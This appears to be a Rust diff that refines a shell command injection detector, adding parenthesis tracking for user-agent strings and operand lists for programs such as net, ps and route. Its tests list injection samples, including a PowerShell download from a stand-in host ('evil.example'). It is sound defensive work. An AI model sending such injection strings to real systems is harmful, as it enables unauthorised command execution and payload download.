@@ -235,10 +235,18 @@ const NUMBER_TAKERS: &[&[u8]] = &[b"sleep", b"ping", b"timeout", b"kill", b"expr
 /// Whether `text` holds a command at a place where an injected shell command would start.
 pub fn injected(text: &[u8]) -> bool {
     let mut word = Vec::with_capacity(MAX_WORD);
+    let mut depth = 0usize;
     command_at(text, 0, Opener::Value, &mut word)
-        || (0..text.len()).any(|i| match command_start(text, i) {
-            Some((start, opener)) => command_at(text, start, opener, &mut word),
-            None => false,
+        || (0..text.len()).any(|i| {
+            match text[i] {
+                b'(' => depth += 1,
+                b')' => depth = depth.saturating_sub(1),
+                _ => {}
+            }
+            match command_start(text, i, depth == 0) {
+                Some((start, opener)) => command_at(text, start, opener, &mut word),
+                None => false,
+            }
         })
 }
 
@@ -248,8 +256,12 @@ const MAX_WORD: usize = 64;
 /// What started a command.
 #[derive(Clone, Copy, PartialEq, Eq)]
 enum Opener {
-    /// `;`, `|`, `&&`, `||` or a backtick.
+    /// `;`, `|`, `&&`, `||` or a backtick inside parentheses, where a user agent's comment lists
+    /// its tokens between semicolons (`(Linux; U; id)`).
     Separator,
+    /// The same outside parentheses, where no user agent puts one: a `;` may end the command
+    /// that follows (`;id;`).
+    Statement,
     /// A line break, or `\n` written out: a `;` may end the command that follows (`\nid;`),
     /// which after a `;` would be a user agent's token list.
     LineBreak,
@@ -263,18 +275,22 @@ enum Opener {
     Value,
 }
 
-/// Where a command would start if the shell broke the text at `i`, and what broke it.
-fn command_start(text: &[u8], i: usize) -> Option<(usize, Opener)> {
+/// Where a command would start if the shell broke the text at `i`, and what broke it; `outside`:
+/// `i` is outside parentheses.
+fn command_start(text: &[u8], i: usize, outside: bool) -> Option<(usize, Opener)> {
     let next = text.get(i + 1).copied();
+    let separator = if outside {
+        Opener::Statement
+    } else {
+        Opener::Separator
+    };
     match text[i] {
-        b';' | b'|' | b'`' => Some((i + 1, Opener::Separator)),
+        b';' | b'|' | b'`' => Some((i + 1, separator)),
         b'\n' | b'\r' => Some((i + 1, Opener::LineBreak)),
         b'\\' if matches!(next, Some(b'n' | b'r')) => Some((i + 2, Opener::LineBreak)),
-        b'&' if next == Some(b'&') || (i > 0 && text[i - 1] == b'&') => {
-            Some((i + 1, Opener::Separator))
-        }
+        b'&' if next == Some(b'&') || (i > 0 && text[i - 1] == b'&') => Some((i + 1, separator)),
         // A parameter's name never starts with a blank.
-        b'&' if matches!(next, Some(b' ' | b'\t')) => Some((i + 1, Opener::Separator)),
+        b'&' if matches!(next, Some(b' ' | b'\t')) => Some((i + 1, separator)),
         b'&' => Some((i + 1, Opener::Ampersand)),
         b'$' | b'<' | b'>' if next == Some(b'(') => Some((i + 2, Opener::Paren)),
         b'=' => Some((i + 1, Opener::Value)),
@@ -324,13 +340,38 @@ fn command_at(text: &[u8], start: usize, opener: Opener, word: &mut Vec<u8>) -> 
 /// Word programs whose first argument is a host name (`host evil.example`).
 const HOST_TAKERS: &[&[u8]] = &[b"dig", b"host", b"ping", b"whois"];
 
-/// The objects `ip` works on (`ip a`, `ip route`).
-const IP_OBJECTS: &[&[u8]] = &[
-    b"a", b"addr", b"address", b"l", b"link", b"n", b"neigh", b"r", b"route",
+/// Word programs and the operands that make them a command: the objects `ip` works on (`ip a`,
+/// `ip route`), the subcommands of Windows' `net` (`net user`) and `route` (`route print`), the
+/// BSD-style options of `ps` (`ps aux`).
+const OPERANDS: &[(&[u8], &[&[u8]])] = &[
+    (
+        b"ip",
+        &[
+            b"a", b"addr", b"address", b"l", b"link", b"n", b"neigh", b"r", b"route",
+        ],
+    ),
+    (
+        b"net",
+        &[
+            b"accounts",
+            b"config",
+            b"group",
+            b"localgroup",
+            b"session",
+            b"share",
+            b"start",
+            b"stop",
+            b"use",
+            b"user",
+            b"view",
+        ],
+    ),
+    (b"ps", &[b"aux", b"ax", b"auxf", b"auxww", b"ef", b"elf"]),
+    (b"route", &[b"add", b"change", b"delete", b"print"]),
 ];
 
 /// Whether the word after a word program at `end` is one the program takes and prose rarely
-/// puts there: a dotted host name after a lookup program, an object after `ip`.
+/// puts there: a dotted host name after a lookup program, one of the `OPERANDS` of a program.
 fn operand_follows(text: &[u8], end: usize, name: &[u8]) -> bool {
     let i = end
         + text[end..]
@@ -347,12 +388,14 @@ fn operand_follows(text: &[u8], end: usize, name: &[u8]) -> bool {
     let operand = &text[i..i + n];
     let ends = text
         .get(i + n)
-        .is_none_or(|c| matches!(c, b' ' | b'\t' | b';' | b'|' | b'&' | b'\n' | b'`' | b')'));
+        .is_none_or(|c| b" \t;|&\n\r`)'\"\0".contains(c));
     let dotted = operand.contains(&b'.')
         && operand.first().is_some_and(u8::is_ascii_alphanumeric)
         && operand.last().is_some_and(u8::is_ascii_alphabetic);
     ends && ((HOST_TAKERS.contains(&name) && dotted)
-        || (name == b"ip" && IP_OBJECTS.iter().any(|o| operand.eq_ignore_ascii_case(o))))
+        || OPERANDS.iter().any(|(program, operands)| {
+            *program == name && operands.iter().any(|o| operand.eq_ignore_ascii_case(o))
+        }))
 }
 
 /// Whether the word at `start` is made of variables only (`$X`, `${a}${b}`), each of which the
@@ -634,9 +677,9 @@ fn glob_of_system_path(word: &[u8]) -> bool {
 }
 
 /// Whether what follows a word at `end` is what a command line has: an option, a path, a
-/// variable, a number, a quote, a redirection, a pipe, the `)` of a substitution, or the end of the
-/// value (except after a lone `&`, where the end is also that of a query parameter without a
-/// value). Not a `;`: user agents list their tokens between semicolons (`; Touch;`, `; U; id)`).
+/// variable, a number, a quote, a redirection, a pipe, the `)` of a substitution, a comment, or
+/// the end of the value (except after a lone `&`, where the end is also that of a query parameter
+/// without a value). A `;` only where no user agent's comment can be (`; Touch;`, `; U; id)`).
 fn command_line_follows(text: &[u8], end: usize, opener: Opener, numbers: bool) -> bool {
     let i = skip_blanks(text, end);
     let Some(&c) = text.get(i) else {
@@ -648,8 +691,18 @@ fn command_line_follows(text: &[u8], end: usize, opener: Opener, numbers: bool) 
         b'|' | b'`' | b'<' | b'>' | b'\n' | b'\r' | b'\0' => true,
         b'\\' if matches!(text.get(i + 1), Some(b'n' | b'r')) => true,
         b')' => opener == Opener::Paren,
-        b'&' => text.get(i + 1) == Some(&b'&'),
-        b';' => opener == Opener::LineBreak,
+        // `&&`, or a `&` that sends the command to the background and ends the text or a quote.
+        b'&' => matches!(
+            text.get(i + 1),
+            None | Some(b'&' | b'\'' | b'"' | b' ' | b'\t' | b'\n' | b'\r' | b';' | b'|')
+        ),
+        b';' => matches!(opener, Opener::LineBreak | Opener::Statement),
+        // A comment that cuts off the rest of the server's command line.
+        b'#' => {
+            blank
+                && matches!(opener, Opener::LineBreak | Opener::Statement)
+                && matches!(text.get(i + 1), None | Some(b' ' | b'\t'))
+        }
         b',' => matches!(
             text.get(i + 1),
             Some(b'/' | b'-' | b'$' | b'~' | b'0'..=b'9')
@@ -770,6 +823,15 @@ mod tests {
             ";LD_DEBUG=help id",
             ";c^m^d /c dir",
             ";iwr http://evil.example/a.ps1",
+            ";id;",
+            "a);uname;",
+            "&net user",
+            ";ps aux",
+            "|route print",
+            ";id #",
+            "\"\nnet user\"",
+            "\"\nver&",
+            "a;id&",
         ] {
             assert!(injected(s.as_bytes()), "{s}");
         }
@@ -821,6 +883,10 @@ mod tests {
             "rock | ip and sound",
             "x=5; cost $x",
             "price=$x;x=2",
+            "mozilla/5.0 (linux; u; android 4.0.3; id; gt-i9100)",
+            "see the net; net income is high",
+            "the ps; ps is a note",
+            "the path; id #3",
         ] {
             assert!(!injected(s.as_bytes()), "{s}");
         }
